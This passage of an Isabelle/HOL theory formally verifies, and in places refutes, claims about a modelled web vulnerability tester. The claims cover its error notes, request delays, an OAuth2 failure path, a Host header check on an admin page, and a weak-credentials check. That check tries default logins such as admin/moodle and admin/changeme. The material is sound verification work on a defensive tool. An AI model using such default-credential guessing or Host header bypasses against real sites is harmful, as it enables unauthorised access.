  shows "count_list (info r) no_vuln_note = 1"
proof -
  obtain res s' where t: "run_tests_try e s = (None, res, s')"
    using assms(1) by (cases "run_tests_try e s") auto
  with assms(2) have r: "r = res" by (simp add: run_tests_def)
  from run_tests_try_None[OF t] r assms(3) show ?thesis by simp
qed

theorem no_vulnerability_note_witness:
  "fst (run_tests_try env_404 tester0) = None
   \<and> fst (run_tests env_404 tester0) = Inr \<lparr>vulnerabilities = [], info = [no_vuln_note]\<rparr>
   \<and> count_list [no_vuln_note] no_vuln_note = 1"
proof -
  have c: "\<not> (truthy (username tester0) \<and> truthy (password tester0))"
    by (simp add: tester0_def init_tester_def)
  from run_tests_try_404[OF answers_404_env_404 c] obtain s6 where
    t: "run_tests_try env_404 tester0
        = (None, \<lparr>vulnerabilities = [], info = [no_vuln_note]\<rparr>,
           after_get env_404 (after_get env_404 s6))" by blast
  have a: "fst (run_tests_try env_404 tester0) = None" by (simp add: t)
  have b: "fst (run_tests env_404 tester0) = Inr \<lparr>vulnerabilities = [], info = [no_vuln_note]\<rparr>"
    by (simp add: run_tests_def t)
  have v: "vulnerabilities \<lparr>vulnerabilities = [], info = [no_vuln_note]\<rparr> = []" by simp
  from no_vulnerability_note[OF a b v] a b show ?thesis by simp
qed

text \<open>
  Claim C3 as stated fails: against a target no request reaches, the OAuth2 check
  raises, the report has no vulnerability, and its only note is the error note.
\<close>

theorem no_vulnerability_note_counterexample:
  "fst (run_tests env_down tester0)
     = Inr \<lparr>vulnerabilities = [], info = [error_note (ConnectionError ''connection refused'')]\<rparr>
   \<and> count_list [error_note (ConnectionError ''connection refused'')] no_vuln_note = 0"
  by code_simp

section \<open>The delay\<close>

text \<open>
  Claim C9. With a delay of 1 and a target that answers 404 to everything, the trace of
  the run has a request that does not come right after a sleep: the CSRF check and the
  session fixation check each fetch the login page through the session itself, one right
  after the other.
\<close>

theorem delay_not_before_every_request:
  "0 < delay tester_delay
   \<and> \<not> sleeps_precede (delay tester_delay) None (trace (snd (run_tests env_404 tester_delay)))"
proof -
  have c: "\<not> (truthy (username tester_delay) \<and> truthy (password tester_delay))"
    by (simp add: tester_delay_def init_tester_def)
  from run_tests_try_404[OF answers_404_env_404 c] obtain s6 where
    t: "run_tests_try env_404 tester_delay
        = (None, \<lparr>vulnerabilities = [], info = [no_vuln_note]\<rparr>,
           after_get env_404 (after_get env_404 s6))" by blast
  have "trace (snd (run_tests env_404 tester_delay))
      = trace s6 @ [Send (GET (login_url s6)), Send (GET (login_url (after_get env_404 s6)))]"
    by (simp add: run_tests_def t trace_after_get)
  then show ?thesis
    by (simp add: sleeps_precede_two_sends tester_delay_def init_tester_def)
qed

section \<open>A transport failure outside the safe request\<close>

text \<open>
  Claim C2. The admin page of the target opens to \<^verbatim>\<open>Host: localhost\<close>. When the
  request for the OAuth2 login page times out, the run stops there: the report has no
  vulnerability and one error note. When the same target answers that request with 404,
  the later Host header check runs and its finding is in the report.
\<close>

theorem oauth_failure_ends_run:
  "fst (run_tests env_bypass_oauth_down tester0)
     = Inr \<lparr>vulnerabilities = [], info = [error_note (Timeout ''timed out'')]\<rparr>
   \<and> fst (run_tests env_bypass_oauth_404 tester0)
     = Inr \<lparr>vulnerabilities = [host_header_finding [(''Host'', ''localhost'')]], info = []\<rparr>"
  by code_simp

section \<open>The weak-credentials check\<close>

lemma first_success_Nil: "first_success e s [] = None"
  by (simp add: first_success_def)

lemma first_success_Cons:
  "first_success e s (c # cs) =
     (if fst (attempt e s c) then Some c else first_success e (snd (attempt e s c)) cs)"
proof -
  have u: "[0..<length (c # cs)] = 0 # map Suc [0..<length cs]"
    by (simp add: upt_conv_Cons map_Suc_upt del: upt_Suc)
  show ?thesis
    unfolding first_success_def u
    by (simp add: filter_map comp_def split: list.splits)
qed

lemma common_credentials_loop_first:
  "fst (common_credentials_loop e s cs) = first_success e s cs"
proof (induction cs arbitrary: s)
  case Nil
  show ?case by (simp add: first_success_Nil)
next
  case (Cons c cs)
  show ?case
  proof (cases "attempt e s c")
    case (Pair b s')
    then show ?thesis
      using Cons.IH[of s']
      by (cases b) (simp_all add: first_success_Cons attempt_def)
  qed
qed

text \<open>
  Claim C6, as amended. The weak-credentials check returns the first tuple of the fixed
  list, in its order, whose login attempt returns true when the tuples are tried in that
  order by the one tester, each attempt made with the budget the earlier ones have left;
  it returns none when no attempt returns true.
\<close>

theorem common_credentials_first_success:
  "fst (test_common_credentials e s) = first_success e s test_credentials"
  by (simp add: test_common_credentials_def common_credentials_loop_first)

text \<open>
  Claim C6 as stated fails: against a target whose only account is admin with the
  password moodle, a login with that tuple of the list succeeds on a fresh tester, and
  the check on a fresh tester returns none.
\<close>

theorem common_credentials_counterexample:
  "\<lparr>cred_username = ''admin'', cred_password = ''moodle'',
     cred_description = ''product name as password''\<rparr> \<in> set test_credentials
   \<and> fst (test_authentication env_admin_moodle tester0 ''admin'' ''moodle'')
   \<and> fst (test_common_credentials env_admin_moodle tester0) = None"
  by code_simp

lemma test_authentication_mono:
  assumes "test_authentication e s u p = (b, s')"
  shows "max_attempts_per_account s' = max_attempts_per_account s \<and> attempts s k \<le> attempts s' k"
  using assms
  by (auto simp: test_authentication_def Let_def attempts_def
      split: if_splits prod.splits option.splits
      dest!: safe_request_frame classify_login_frame)

lemma attempt_mono:
  "max_attempts_per_account (snd (attempt e s c)) = max_attempts_per_account s"
  "attempts s k \<le> attempts (snd (attempt e s c)) k"
  using test_authentication_mono[of e "delay_sleep s" "cred_username c" "cred_password c"
      "fst (attempt e s c)" "snd (attempt e s c)" k]
  by (simp_all add: attempt_def attempts_def)

lemma attempt_admin:
  assumes "cred_username c = ''admin''" and "max_attempts_per_account s = 3"
  shows "min 3 (attempts s (md5_hexdigest e ''admin'') + 1)
           \<le> attempts (snd (attempt e s c)) (md5_hexdigest e ''admin'')"
proof -
  have ne: "cred_username c \<noteq> []" using assms(1) by simp
  from test_authentication_counts_snd(2)[OF ne, of e "delay_sleep s" "cred_password c"] assms
  show ?thesis by (simp add: attempt_def attempts_def)
qed

lemma after_three_admin:
  assumes "max_attempts_per_account s = 3"
  shows "max_attempts_per_account (after_attempts e s (take 3 test_credentials)) = 3"
    and "3 \<le> attempts (after_attempts e s (take 3 test_credentials)) (md5_hexdigest e ''admin'')"
proof -
  define c0 where "c0 = test_credentials ! 0"
  define c1 where "c1 = test_credentials ! 1"
  define c2 where "c2 = test_credentials ! 2"
  define s1 where "s1 = snd (attempt e s c0)"
  define s2 where "s2 = snd (attempt e s1 c1)"
  define s3 where "s3 = snd (attempt e s2 c2)"
  have t: "take 3 test_credentials = [c0, c1, c2]"
    by (simp add: test_credentials_def c0_def c1_def c2_def)
  have u: "cred_username c0 = ''admin''" "cred_username c1 = ''admin''"
      "cred_username c2 = ''admin''"
    by (simp_all add: test_credentials_def c0_def c1_def c2_def)
  have e: "after_attempts e s (take 3 test_credentials) = s3"
    unfolding t by (simp add: s1_def s2_def s3_def)
  have m1: "max_attempts_per_account s1 = 3" using assms by (simp add: s1_def attempt_mono)
  have m2: "max_attempts_per_account s2 = 3" using m1 by (simp add: s2_def attempt_mono)
  have m3: "max_attempts_per_account s3 = 3" using m2 by (simp add: s3_def attempt_mono)
  have a1: "1 \<le> attempts s1 (md5_hexdigest e ''admin'')"
    using attempt_admin[OF u(1) assms, of e] unfolding s1_def by linarith
  have a2: "2 \<le> attempts s2 (md5_hexdigest e ''admin'')"
    using attempt_admin[OF u(2) m1, of e] a1 unfolding s2_def by linarith
  have a3: "3 \<le> attempts s3 (md5_hexdigest e ''admin'')"
    using attempt_admin[OF u(3) m2, of e] a2 unfolding s3_def by linarith
  show "max_attempts_per_account (after_attempts e s (take 3 test_credentials)) = 3"
    by (simp add: e m3)
  show "3 \<le> attempts (after_attempts e s (take 3 test_credentials)) (md5_hexdigest e ''admin'')"
    by (simp add: e a3)
qed

lemma after_attempts_append:
  "after_attempts e s (xs @ ys) = after_attempts e (after_attempts e s xs) ys"
  by (induction xs arbitrary: s) simp_all

lemma after_attempts_mono:
  "max_attempts_per_account (after_attempts e s cs) = max_attempts_per_account s
   \<and> attempts s k \<le> attempts (after_attempts e s cs) k"
proof (induction cs arbitrary: s)
  case Nil
  show ?case by simp
next
  case (Cons c cs)
  have "attempts s k \<le> attempts (snd (attempt e s c)) k" by (rule attempt_mono)
  with Cons.IH[of "snd (attempt e s c)"] show ?case by (simp add: attempt_mono(1))
qed

lemma after_five:
  assumes "max_attempts_per_account s = 3"
  shows "max_attempts_per_account (after_attempts e s (take 5 test_credentials)) = 3"
    and "3 \<le> attempts (after_attempts e s (take 5 test_credentials)) (md5_hexdigest e ''admin'')"
proof -
  have t: "take 5 test_credentials = take 3 test_credentials @ [test_credentials ! 3, test_credentials ! 4]"
    by (simp add: test_credentials_def)
  show "max_attempts_per_account (after_attempts e s (take 5 test_credentials)) = 3"
    using assms by (simp add: after_attempts_mono)
  show "3 \<le> attempts (after_attempts e s (take 5 test_credentials)) (md5_hexdigest e ''admin'')"
    unfolding t after_attempts_append
    using after_three_admin(2)[OF assms, of e]
      after_attempts_mono[where e = e and s = "after_attempts e s (take 3 test_credentials)"
        and cs = "[test_credentials ! 3, test_credentials ! 4]" and k = "md5_hexdigest e ''admin''"]
    by linarith
qed

lemma first_success_Some:
  assumes "first_success e s cs = Some c"
  shows "\<exists>i<length cs. c = cs ! i \<and> fst (attempt e (after_attempts e s (take i cs)) (cs ! i))"
proof -
  let ?P = "\<lambda>i. fst (attempt e (after_attempts e s (take i cs)) (cs ! i))"
  from assms obtain i rest where f: "filter ?P [0..<length cs] = i # rest" and c: "c = cs ! i"
    by (auto simp: first_success_def split: list.splits)
  from f have "i \<in> set (filter ?P [0..<length cs])" by simp
  then have "i < length cs" "?P i" by simp_all
  with c show ?thesis by blast
qed

lemma test_credentials_index:
  assumes "i < length test_credentials" and "test_credentials ! i = test_credentials ! k"
    and "k < length test_credentials"
  shows "i = k"
proof -
  have d: "distinct test_credentials" by (simp add: test_credentials_def)
  from assms d show ?thesis by (simp add: nth_eq_iff_index_eq)
qed

text \<open>
  Claim C10. With the budget of 3 attempts per account, whatever the target does: the
  calls the weak-credentials check makes for admin/moodle and for admin/changeme, by
  the tester that has tried the tuples before them, return false and leave the tester as
  it was, so they send nothing; and the check never returns either of the two tuples.
\<close>

theorem late_admin_tuples_never_tried:
  assumes "max_attempts_per_account s = 3"
  shows "(let s4 = delay_sleep (after_attempts e s (take 3 test_credentials))
          in test_authentication e s4 ''admin'' ''moodle'' = (False, s4))
       \<and> (let s6 = delay_sleep (after_attempts e s (take 5 test_credentials))
          in test_authentication e s6 ''admin'' ''changeme'' = (False, s6))
       \<and> fst (test_common_credentials e s) \<noteq> Some (test_credentials ! 3)
       \<and> fst (test_common_credentials e s) \<noteq> Some (test_credentials ! 5)"
proof -
  let ?s3 = "after_attempts e s (take 3 test_credentials)"
  let ?s5 = "after_attempts e s (take 5 test_credentials)"
  have x4: "test_authentication e (delay_sleep ?s3) ''admin'' p = (False, delay_sleep ?s3)" for p
    using after_three_admin[OF assms, of e]
    by (intro test_authentication_exhausted) (simp add: attempts_def)
  have x6: "test_authentication e (delay_sleep ?s5) ''admin'' p = (False, delay_sleep ?s5)" for p
    using after_five[OF assms, of e]
    by (intro test_authentication_exhausted) (simp add: attempts_def)
  have c3: "cred_username (test_credentials ! 3) = ''admin''"
      "cred_username (test_credentials ! 5) = ''admin''"
    by (simp_all add: test_credentials_def)
  have n3: "\<not> fst (attempt e ?s3 (test_credentials ! 3))"
    by (simp add: attempt_def c3 x4)
  have n5: "\<not> fst (attempt e ?s5 (test_credentials ! 5))"
    by (simp add: attempt_def c3 x6)
  have len: "length test_credentials = 6" by (simp add: test_credentials_def)
  have r3: "fst (test_common_credentials e s) \<noteq> Some (test_credentials ! 3)"
  proof
    assume "fst (test_common_credentials e s) = Some (test_credentials ! 3)"
    then have "first_success e s test_credentials = Some (test_credentials ! 3)"
      by (simp add: test_common_credentials_def common_credentials_loop_first)
    from first_success_Some[OF this] obtain i where i: "i < length test_credentials"
      "test_credentials ! 3 = test_credentials ! i"
      "fst (attempt e (after_attempts e s (take i test_credentials)) (test_credentials ! i))"
      by blast
    from test_credentials_index[OF i(1) i(2)[symmetric]] len have "i = 3" by simp
    with i(3) n3 show False by simp
  qed
  have r5: "fst (test_common_credentials e s) \<noteq> Some (test_credentials ! 5)"
  proof
    assume "fst (test_common_credentials e s) = Some (test_credentials ! 5)"
    then have "first_success e s test_credentials = Some (test_credentials ! 5)"
      by (simp add: test_common_credentials_def common_credentials_loop_first)
    from first_success_Some[OF this] obtain i where i: "i < length test_credentials"
      "test_credentials ! 5 = test_credentials ! i"
      "fst (attempt e (after_attempts e s (take i test_credentials)) (test_credentials ! i))"
      by blast
    from test_credentials_index[OF i(1) i(2)[symmetric]] len have "i = 5" by simp
    with i(3) n5 show False by simp
  qed
  from x4 x6 r3 r5 show ?thesis by (simp add: Let_def)
qed

theorem late_admin_tuples_never_tried_witness:
  "max_attempts_per_account tester0 = 3
   \<and> (let s4 = delay_sleep (after_attempts env_admin_moodle tester0 (take 3 test_credentials))
      in test_authentication env_admin_moodle s4 ''admin'' ''moodle'' = (False, s4))
   \<and> fst (test_common_credentials env_admin_moodle tester0) \<noteq> Some (test_credentials ! 3)"
proof -
  have m: "max_attempts_per_account tester0 = 3" by (simp add: tester0_def init_tester_def)
  from late_admin_tuples_never_tried[OF m, of env_admin_moodle] m show ?thesis by simp
qed

end
